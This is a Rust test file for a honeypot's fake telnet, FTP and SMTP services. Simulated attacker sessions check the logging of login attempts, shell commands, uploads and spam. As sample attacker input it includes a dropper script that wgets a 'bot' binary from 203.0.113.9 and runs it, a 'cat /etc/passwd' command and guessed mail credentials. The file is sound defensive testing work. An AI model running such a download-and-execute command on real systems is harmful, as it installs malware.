//! The line-protocol decoys (telnet, FTP, SMTP) in a real dialogue over TCP on 127.0.0.1: what an
//! attacker sees, and the lines the decky writes about it.

use std::net::SocketAddr;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use sha2::{Digest, Sha256};
use svc_core::logline::{LogLine, parse_shell_command};
use svc_decoy::session::Limits;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

mod common;
use common::{Loopback, service};

const DECKY: &str = "decky-07";
const WAIT: Duration = Duration::from_secs(10);

/// One service of a decky, serving on a free port of 127.0.0.1 until the test ends.
struct Running {
    decky: Loopback,
    addr: SocketAddr,
}

impl Running {
    async fn start(name: &'static str, settings: &[(&str, &str)], limits: Limits) -> Running {
        let decky = Loopback::start(DECKY, &[service(name, settings)], limits).await;
        Running { addr: decky.address(name), decky }
    }

    async fn connect(&self) -> Client {
        Client::connect(self.addr).await
    }

    /// The lines written so far with MSGID `event_type`, parsed.
    fn events(&self, event_type: &str) -> Vec<LogLine> {
        self.decky.parsed().into_iter().filter(|line| line.event_type == event_type).collect()
    }
}

/// Each authentication attempt's principal, secret (base64) and outcome.
fn attempt_summary(attempts: &[LogLine]) -> Vec<(&str, &str, &str)> {
    fn field<'a>(attempt: &'a LogLine, key: &str) -> &'a str {
        attempt.field(key).unwrap_or_else(|| panic!("no {key} in {attempt:?}"))
    }
    attempts.iter().map(|a| (field(a, "principal"), field(a, "secret_b64"), field(a, "outcome"))).collect()
}

/// An attacker's end of a connection, reading what the decoy sends.
struct Client {
    stream: TcpStream,
    /// Received and not yet consumed.
    buffer: Vec<u8>,
}

impl Client {
    async fn connect(addr: SocketAddr) -> Client {
        Client { stream: TcpStream::connect(addr).await.unwrap(), buffer: Vec::new() }
    }

    async fn send(&mut self, bytes: impl AsRef<[u8]>) {
        self.stream.write_all(bytes.as_ref()).await.unwrap();
    }

    async fn fill(&mut self) -> usize {
        let mut chunk = [0u8; 4096];
        let n = tokio::time::timeout(WAIT, self.stream.read(&mut chunk)).await.expect("the decoy went silent").unwrap();
        self.buffer.extend_from_slice(&chunk[..n]);
        n
    }

    /// Everything up to and including `needle`, consumed.
    async fn until(&mut self, needle: &str) -> Vec<u8> {
        loop {
            if let Some(at) = self.buffer.windows(needle.len()).position(|w| w == needle.as_bytes()) {
                return self.buffer.drain(..at + needle.len()).collect();
            }
            if self.fill().await == 0 {
                panic!("closed before {needle:?}; got {:?}", String::from_utf8_lossy(&self.buffer));
            }
        }
    }

    /// One whole reply (`ddd text`, after any `ddd-` lines), as text.
    async fn reply(&mut self) -> String {
        let mut reply = String::new();
        loop {
            let line = String::from_utf8_lossy(&self.until("\r\n").await).into_owned();
            reply.push_str(&line);
            let bytes = line.as_bytes();
            if bytes.len() >= 4 && bytes[..3].iter().all(u8::is_ascii_digit) && bytes[3] == b' ' {
                return reply;
            }
        }
    }

    /// Sends a command line, then reads its reply.
    async fn command(&mut self, line: &str) -> String {
        self.send(format!("{line}\r\n")).await;
        self.reply().await
    }

    /// Whether the decoy closes the connection (a reset counts) within the wait.
    async fn closed(&mut self) -> bool {
        let mut chunk = [0u8; 4096];
        let ends = async {
            loop {
                match self.stream.read(&mut chunk).await {
                    Ok(0) | Err(_) => return,
                    Ok(_) => {}
                }
            }
        };
        tokio::time::timeout(WAIT, ends).await.is_ok()
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// The port of a `227 Entering Passive Mode (h1,h2,h3,h4,p1,p2).` reply.
fn pasv_port(reply: &str) -> u16 {
    assert!(reply.starts_with("227 "), "{reply}");
    let inner = &reply[reply.find('(').unwrap() + 1..reply.find(')').unwrap()];
    let numbers: Vec<u16> = inner.split(',').map(|n| n.parse().unwrap()).collect();
    assert_eq!(&numbers[..4], [127, 0, 0, 1]);
    numbers[4] * 256 + numbers[5]
}

#[tokio::test]
async fn telnet_logs_each_login_then_serves_the_fake_shell() {
    let decoy = Running::start("telnet", &[("users", "root:toor")], Limits::default()).await;
    let mut client = decoy.connect().await;

    let greeting = client.until("decky-07 login: ").await;
    assert!(greeting.windows(3).any(|w| w == [255, 251, 1]), "IAC WILL ECHO first");
    assert!(text(&greeting).contains("Ubuntu 22.04.4 LTS\r\n"));

    // The client's own negotiation (window size included) never reaches the username.
    client.send(b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n").await;
    let echoed = client.until("Password: ").await;
    assert!(text(&echoed).contains("root\r\n"), "the username is echoed");
    // `IAC IAC` is a literal 0xff in the password.
    client.send(b"wr\xff\xffong\r\n").await;
    let refused = text(&client.until("decky-07 login: ").await);
    assert!(refused.contains("Login incorrect"));
    assert!(!refused.contains("wr"), "the password is not echoed: {refused:?}");

    client.send("root\r\n").await;
    client.until("Password: ").await;
    client.send("toor\r\n").await;
    client.until("root@decky-07:~# ").await;
    client.send("cat /etc/passwd\r\n").await;
    let output = text(&client.until("root@decky-07:~# ").await);
    assert!(output.contains("root:x:0:0:root:/root:/bin/bash\r\n"), "{output}");
    client.send("exit\r\n").await;
    client.until("logout\r\n").await;
    assert!(client.closed().await);

    let attempts = decoy.events("auth_attempt");
    assert_eq!(attempts.len(), 2);
    for attempt in &attempts {
        assert_eq!((attempt.service.as_str(), attempt.decky.as_str()), ("telnet", DECKY));
        assert_eq!(attempt.attacker_ip, "127.0.0.1");
        assert_eq!(attempt.field("principal"), Some("root"));
        assert_eq!(attempt.field("secret_kind"), Some("plaintext"));
    }
    assert_eq!(attempts[0].field("outcome"), Some("failure"));
    assert_eq!(attempts[0].field("secret_b64"), Some(STANDARD.encode(b"wr\xffong").as_str()));
    assert_eq!(attempts[0].field("secret_printable"), Some("wr?ong"));
    assert_eq!(attempts[1].field("outcome"), Some("success"));
    assert_eq!(attempts[1].field("secret_b64"), Some(STANDARD.encode("toor").as_str()));

    let commands = decoy.events("command");
    assert_eq!(commands.len(), 2, "cat and exit");
    assert_eq!(commands[0].service, "bash");
    assert_eq!(commands[0].field("service"), Some("telnet"));
    let cmd = parse_shell_command(commands[0].msg.as_deref().unwrap()).unwrap();
    assert_eq!(cmd.command, "cat /etc/passwd");
    assert_eq!(cmd.user.as_deref(), Some("root"));
    assert_eq!(cmd.uid.as_deref(), Some("0"));
    assert_eq!(cmd.pwd.as_deref(), Some("/root"));
    assert_eq!(cmd.src.as_deref(), Some("127.0.0.1"));
}

#[tokio::test]
async fn telnet_gives_up_after_three_failures() {
    let decoy = Running::start("telnet", &[("banner", "Debian GNU/Linux 12")], Limits::default()).await;
    let mut client = decoy.connect().await;
    assert!(text(&client.until("login: ").await).contains("Debian GNU/Linux 12\r\n"));
    for attempt in 0..3 {
        client.send("admin\r\n").await;
        client.until("Password: ").await;
        client.send(format!("guess{attempt}\r\n")).await;
        client.until("Login incorrect\r\n").await;
    }
    assert!(client.closed().await);
    let outcomes: Vec<_> =
        decoy.events("auth_attempt").iter().map(|a| a.field("outcome").unwrap_or_default().to_string()).collect();
    assert_eq!(outcomes, ["failure"; 3]);
}

/// Logs in to the FTP decoy as `anonymous`.
async fn ftp_login(client: &mut Client) {
    assert_eq!(client.reply().await, "220 (vsFTPd 3.0.5)\r\n");
    assert!(client.command("USER anonymous").await.starts_with("331 "));
    assert_eq!(client.command("PASS scanner@example.com").await, "230 Login successful.\r\n");
}

/// Opens a passive data connection.
async fn ftp_passive(client: &mut Client) -> TcpStream {
    let port = pasv_port(&client.command("PASV").await);
    TcpStream::connect(("127.0.0.1", port)).await.unwrap()
}

#[tokio::test]
async fn ftp_logs_logins_uploads_and_commands() {
    let decoy = Running::start("ftp", &[("users", "ftpuser:s3cret")], Limits::default()).await;
    let mut client = decoy.connect().await;
    assert_eq!(client.reply().await, "220 (vsFTPd 3.0.5)\r\n");
    assert_eq!(client.command("SYST").await, "530 Please login with USER and PASS.\r\n");
    client.command("USER ftpuser").await;
    // The password is logged as sent, whatever its bytes.
    client.send(b"PASS wr\xffng\r\n").await;
    assert_eq!(client.reply().await, "530 Login incorrect.\r\n");
    client.command("USER ftpuser").await;
    assert_eq!(client.command("PASS s3cret").await, "230 Login successful.\r\n");

    assert_eq!(client.command("SYST").await, "215 UNIX Type: L8\r\n");
    assert_eq!(client.command("TYPE I").await, "200 Switching to Binary mode.\r\n");
    assert!(client.command("FEAT").await.ends_with("211 End\r\n"));
    assert_eq!(client.command("PWD").await, "257 \"/\" is the current directory\r\n");
    assert_eq!(client.command("CWD upload").await, "250 Directory successfully changed.\r\n");
    assert_eq!(client.command("CWD /nowhere").await, "550 Failed to change directory.\r\n");
    assert_eq!(client.command("PORT 127,0,0,1,4,1").await, "500 Illegal PORT command.\r\n");
    assert_eq!(client.command("EPRT |1|127.0.0.1|1025|").await, "500 Illegal PORT command.\r\n");
    assert_eq!(client.command("RETR /etc/passwd").await, "550 Failed to open file.\r\n");
    assert_eq!(client.command("XYZZY").await, "500 Unknown command.\r\n");
    assert_eq!(client.command("STOR x.bin").await, "425 Use PORT or PASV first.\r\n");

    // An upload: hashed and logged, nothing kept.
    let payload = b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bot; chmod +x bot; ./bot\n";
    let mut data = ftp_passive(&mut client).await;
    assert_eq!(client.command("STOR bot.sh").await, "150 Ok to send data.\r\n");
    data.write_all(payload).await.unwrap();
    drop(data);
    assert_eq!(client.reply().await, "226 Transfer complete.\r\n");

    // A listing.
    assert_eq!(client.command("CDUP").await, "250 Directory successfully changed.\r\n");
    let mut data = ftp_passive(&mut client).await;
    assert_eq!(client.command("LIST -la").await, "150 Here comes the directory listing.\r\n");
    let mut listing = String::new();
    tokio::time::timeout(WAIT, data.read_to_string(&mut listing)).await.unwrap().unwrap();
    assert_eq!(client.reply().await, "226 Directory send OK.\r\n");
    assert!(listing.contains("drwxr-xr-x    2 0        0            4096 Mar 14  2024 pub\r\n"), "{listing}");
    assert!(listing.contains(" README.txt\r\n"));
    let mut data = ftp_passive(&mut client).await;
    assert!(client.command("NLST pub").await.starts_with("150 "));
    let mut names = String::new();
    tokio::time::timeout(WAIT, data.read_to_string(&mut names)).await.unwrap().unwrap();
    assert_eq!(client.reply().await, "226 Directory send OK.\r\n");
    assert_eq!(names, "firmware_v2.1.bin\r\nmanual.pdf\r\n");

    assert_eq!(client.command("PASS again").await, "230 Already logged in.\r\n");
    assert_eq!(client.command("QUIT").await, "221 Goodbye.\r\n");
    assert!(client.closed().await);

    let attempts = decoy.events("auth_attempt");
    let summary = attempt_summary(&attempts);
    let (wrong, right) = (STANDARD.encode(b"wr\xffng"), STANDARD.encode("s3cret"));
    assert_eq!(summary, [("ftpuser", wrong.as_str(), "failure"), ("ftpuser", right.as_str(), "success")]);

    let captured = decoy.events("file_captured");
    assert_eq!(captured.len(), 1);
    let file = &captured[0];
    assert_eq!(file.service, "ftp");
    assert_eq!(file.attacker_ip, "127.0.0.1");
    assert_eq!(file.field("sha256"), Some(sha256_hex(payload).as_str()));
    assert_eq!(file.field("stored_as"), Some(format!("{}.bin", sha256_hex(payload)).as_str()));
    assert_eq!(file.field("size"), Some(payload.len().to_string().as_str()));
    assert_eq!(file.field("orig_path"), Some("/upload/bot.sh"));
    assert_eq!(file.field("truncated"), Some("false"));

    let commands: Vec<String> =
        decoy.events("command").iter().map(|c| c.field("command").unwrap().to_string()).collect();
    assert_eq!(commands.first().map(String::as_str), Some("SYST"), "only commands after the login");
    assert!(commands.iter().any(|c| c == "STOR bot.sh"));
    assert!(commands.iter().any(|c| c == "PASS"), "a later PASS is logged without its argument");
    assert!(!decoy.decky.lines.all().iter().any(|l| l.contains("command=\"PASS ")));
    assert_eq!(commands.last().map(String::as_str), Some("QUIT"));
}

#[tokio::test]
async fn ftp_cuts_an_upload_past_the_limit() {
    let limits = Limits { max_upload: 1024, ..Default::default() };
    let decoy = Running::start("ftp", &[], limits).await;
    let mut client = decoy.connect().await;
    ftp_login(&mut client).await;

    let payload: Vec<u8> = (0..4096u32).map(|i| (i % 251) as u8).collect();
    let mut data = ftp_passive(&mut client).await;
    assert_eq!(client.command("STOR big.bin").await, "150 Ok to send data.\r\n");
    // The decoy stops reading and closes mid-upload: the write may fail.
    let _ = tokio::time::timeout(WAIT, data.write_all(&payload)).await;
    drop(data);
    assert!(client.reply().await.starts_with("552 "));

    let captured = decoy.events("file_captured");
    assert_eq!(captured.len(), 1);
    assert_eq!(captured[0].field("truncated"), Some("true"));
    assert_eq!(captured[0].field("size"), Some("1024"));
    assert_eq!(captured[0].field("sha256"), Some(sha256_hex(&payload[..1024]).as_str()));
    assert_eq!(captured[0].field("orig_path"), Some("/big.bin"));

    // The session goes on.
    assert_eq!(client.command("NOOP").await, "200 NOOP ok.\r\n");
    let attempts = decoy.events("auth_attempt");
    assert_eq!(attempts[0].field("principal"), Some("anonymous"));
    assert_eq!(attempts[0].field("outcome"), Some("success"));
}

#[tokio::test]
async fn smtp_logs_auth_envelope_and_message() {
    let decoy = Running::start("smtp", &[], Limits::default()).await;
    let mut client = decoy.connect().await;
    assert_eq!(client.reply().await, "220 decky-07 ESMTP Postfix (Ubuntu)\r\n");
    assert!(client.command("MAIL FROM:<a@b.example>").await.starts_with("503 "));

    let ehlo = client.command("EHLO spammer.example").await;
    assert!(ehlo.starts_with("250-decky-07\r\n"), "{ehlo}");
    for extension in ["250-PIPELINING\r\n", "250-SIZE 10240000\r\n", "250-AUTH PLAIN LOGIN\r\n", "250-8BITMIME\r\n"] {
        assert!(ehlo.contains(extension), "{ehlo}");
    }

    assert_eq!(client.command("AUTH LOGIN").await, "334 VXNlcm5hbWU6\r\n");
    assert_eq!(client.command(&STANDARD.encode("admin@corp.example")).await, "334 UGFzc3dvcmQ6\r\n");
    assert_eq!(client.command(&STANDARD.encode("Summer2024!")).await, "535 5.7.8 Error: authentication failed\r\n");
    let plain = STANDARD.encode(b"\0info\0letmein");
    assert_eq!(client.command(&format!("AUTH PLAIN {plain}")).await, "535 5.7.8 Error: authentication failed\r\n");
    assert_eq!(client.command("AUTH PLAIN").await, "334 \r\n");
    assert!(client.command(&STANDARD.encode(b"\0sales\0pw")).await.starts_with("535 5.7.8 "));

    assert_eq!(client.command("VRFY root").await, "252 2.0.0 root\r\n");
    assert_eq!(client.command("MAIL FROM:<spam@evil.example> SIZE=120").await, "250 2.1.0 Ok\r\n");
    assert_eq!(client.command("RCPT TO:<victim@corp.example>").await, "250 2.1.5 Ok\r\n");
    assert_eq!(client.command("RCPT TO:<cfo@corp.example>").await, "250 2.1.5 Ok\r\n");
    assert_eq!(client.command("DATA").await, "354 End data with <CR><LF>.<CR><LF>\r\n");
    client.send("From: spam@evil.example\r\nSubject: Invoice\r\n overdue\r\n\r\nPay now.\r\n..hidden\r\n.\r\n").await;
    let queued = client.reply().await;
    assert!(queued.starts_with("250 2.0.0 Ok: queued as "), "{queued}");
    assert_eq!(client.command("BDAT 10").await, "502 5.5.2 Error: command not recognized\r\n");
    assert_eq!(client.command("QUIT").await, "221 2.0.0 Bye\r\n");
    assert!(client.closed().await);

    let attempts = decoy.events("auth_attempt");
    let summary = attempt_summary(&attempts);
    let b64 = |s: &str| STANDARD.encode(s);
    assert_eq!(
        summary,
        [
            ("admin@corp.example", b64("Summer2024!").as_str(), "failure"),
            ("info", b64("letmein").as_str(), "failure"),
            ("sales", b64("pw").as_str(), "failure"),
        ]
    );
    assert!(attempts.iter().all(|a| a.service == "smtp" && a.attacker_ip == "127.0.0.1"));

    let from = decoy.events("mail_from");
    assert_eq!(from.len(), 1);
    assert_eq!(from[0].field("mail_from"), Some("spam@evil.example"));
    let to: Vec<_> = decoy.events("rcpt_to").iter().map(|r| r.field("rcpt_to").unwrap().to_string()).collect();
    assert_eq!(to, ["victim@corp.example", "cfo@corp.example"]);

    let message = b"From: spam@evil.example\r\nSubject: Invoice\r\n overdue\r\n\r\nPay now.\r\n.hidden\r\n";
    let accepted = decoy.events("message_accepted");
    assert_eq!(accepted.len(), 1);
    assert_eq!(accepted[0].field("size"), Some(message.len().to_string().as_str()));
    assert_eq!(accepted[0].field("sha256"), Some(sha256_hex(message).as_str()));
    assert_eq!(accepted[0].field("subject"), Some("Invoice overdue"));
    assert_eq!(accepted[0].field("rcpt_to"), Some("victim@corp.example,cfo@corp.example"));
    assert!(queued.contains(accepted[0].field("queue_id").unwrap()));
}

#[tokio::test]
async fn smtp_bounds_recipients_and_message_size() {
    let limits = Limits { max_upload: 1024, ..Default::default() };
    let decoy = Running::start("smtp", &[("banner", "mx.corp.example ESMTP")], limits).await;
    let mut client = decoy.connect().await;
    assert_eq!(client.reply().await, "220 mx.corp.example ESMTP\r\n");
    assert_eq!(client.command("HELO x").await, "250 decky-07\r\n");
    client.command("MAIL FROM:<>").await;
    for n in 0..100 {
        assert!(client.command(&format!("RCPT TO:<u{n}@corp.example>")).await.starts_with("250 "));
    }
    assert!(client.command("RCPT TO:<one-too-many@corp.example>").await.starts_with("452 "));
    assert_eq!(decoy.events("rcpt_to").len(), 100);

    assert!(client.command("DATA").await.starts_with("354 "));
    // Twenty lines of 100 bytes: the decoy hangs up part way, so the write may fail.
    let message = format!("{}\r\n", "y".repeat(100)).repeat(20);
    let _ = tokio::time::timeout(WAIT, client.stream.write_all(message.as_bytes())).await;
    assert!(client.reply().await.starts_with("552 "));
    assert!(client.closed().await);
    assert!(decoy.events("message_accepted").is_empty());
}

/// Bytes no client would send: xorshift noise, the same every run.
fn noise(len: usize) -> Vec<u8> {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        })
        .collect()
}

/// Sends `junk` on a fresh connection and checks that the decoy hangs up.
async fn hangs_up_on(decoy: &Running, junk: &[u8]) {
    let mut client = decoy.connect().await;
    // The decoy may close before taking it all: a failed write is expected.
    let _ = tokio::time::timeout(WAIT, client.stream.write_all(junk)).await;
    assert!(client.closed().await, "{} kept a hostile session open", decoy.addr);
}

#[tokio::test]
async fn hostile_input_ends_sessions_and_service_goes_on() {
    let long_line = vec![b'A'; 1 << 20];
    let noise = noise(64 * 1024);

    let telnet = Running::start("telnet", &[("users", "root:toor")], Limits::default()).await;
    let ftp = Running::start("ftp", &[], Limits::default()).await;
    let smtp = Running::start("smtp", &[], Limits::default()).await;
    for decoy in [&telnet, &ftp, &smtp] {
        hangs_up_on(decoy, &long_line).await;
        hangs_up_on(decoy, &noise).await;
    }

    let mut client = telnet.connect().await;
    client.until("login: ").await;
    client.send("root\r\n").await;
    client.until("Password: ").await;
    client.send("toor\r\n").await;
    client.until("root@decky-07:~# ").await;
    client.send("id\r\n").await;
    assert!(text(&client.until("# ").await).contains("uid=0(root)"));

    let mut client = ftp.connect().await;
    ftp_login(&mut client).await;
    assert_eq!(client.command("PWD").await, "257 \"/\" is the current directory\r\n");

    let mut client = smtp.connect().await;
    client.reply().await;
    assert!(client.command("EHLO x").await.ends_with("250 DSN\r\n"));
    assert_eq!(client.command("NOOP").await, "250 2.0.0 Ok\r\n");
}
